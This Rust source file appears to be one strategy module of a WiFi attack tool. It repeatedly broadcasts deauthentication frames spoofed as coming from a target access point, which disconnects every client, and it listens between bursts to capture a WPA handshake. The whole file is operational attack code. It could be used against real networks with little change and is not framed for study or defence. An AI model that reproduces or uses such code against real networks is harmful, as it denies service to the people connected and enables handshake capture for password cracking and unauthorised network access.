//! Broadcast: AP-spoofed deauth to every client, repeated on a fixed period

use tracing::{debug, info};

use super::StrategyContext;
use crate::capture::ListenOutcome;
use crate::frames::DeauthFrame;

pub(super) async fn run(ctx: StrategyContext) {
    let interval = ctx.settings.broadcast_interval();
    let frame = DeauthFrame::broadcast(ctx.target.bssid, ctx.settings.deauth_reason);
    let mut analyzer = ctx.analyzer();
    let mut rounds: u64 = 0;

    info!(
        "Broadcasting deauth for {} every {:?}",
        ctx.target.bssid, interval
    );
    loop {
        if !ctx.transmit_burst(std::slice::from_ref(&frame)).await {
            break;
        }
        rounds += 1;
        debug!("Broadcast deauth round {} sent", rounds);

        match ctx
            .window()
            .listen(&mut analyzer, Some(interval), |observation| ctx.observe(observation))
            .await
        {
            ListenOutcome::Elapsed => continue,
            ListenOutcome::Handshake(handshake) => {
                ctx.captured(handshake);
                break;
            }
            ListenOutcome::Stopped => break,
        }
    }
    debug!("Broadcast deauth stopped after {} rounds", rounds);
}
